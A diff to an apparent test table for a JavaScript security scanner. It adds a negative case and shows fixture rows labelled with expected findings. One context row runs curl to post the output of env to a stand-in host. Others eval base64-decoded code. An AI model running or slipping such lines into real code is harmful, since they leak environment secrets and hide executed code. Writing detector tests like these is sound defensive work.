@@ -187,6 +187,10 @@ const ROWS: readonly Row[] = [
     'secret-sent-away:2',
   ],
   ['o.js', "require('child_process').exec('curl -d \"$(env)\" https://x.example');", 'secret-sent-away:1'],
+  [
+    'ok-j.js',
+    "const { resolvePath } = require('./path');\nresolvePath({ env: process.env, name: process.env.API_TOKEN });",
+  ],
   // What is decoded, or set outside, and run.
   ['p.js', "eval(atob('Y29uc29sZS5sb2coMSk7Y29uc29sZS5sb2coMik='));", 'code-injection:1'],
   ['q.js', "eval(Buffer.from('Y29uc29sZS5sb2coMSk7Y29uc29sZS5sb2coMik=', 'base64').toString());", 'code-injection:1'],
